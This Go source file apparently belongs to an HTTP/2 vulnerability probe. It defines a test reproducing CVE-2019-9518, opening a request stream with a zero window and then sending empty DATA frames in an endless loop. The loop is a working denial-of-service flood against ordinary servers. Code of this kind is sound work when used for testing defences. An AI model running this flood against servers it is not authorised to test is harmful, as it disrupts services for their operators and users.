package probe

import "golang.org/x/net/http2"

// emptyFrames reproduces CVE-2019-9518: DATA frames with no payload and no END_STREAM on an
// open request stream. Each costs the server the work of a frame and carries nothing, and no
// flow-control window ever runs out. The request (GET /1m.bin with a body that never ends)
// is made with the stream window at 0, so the response cannot finish and close the stream.
var emptyFrames = Probe{
	Name:     "empty-frames",
	CVE:      "CVE-2019-9518",
	Reads:    true,
	Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
	flood: func(a *abuser) error {
		id := a.newStream()
		if err := a.headers(id, a.request("GET", pathLarge), false, true); err != nil {
			return err
		}
		for {
			if err := a.data(id, false, nil); err != nil {
				return err
			}
		}
	},
}
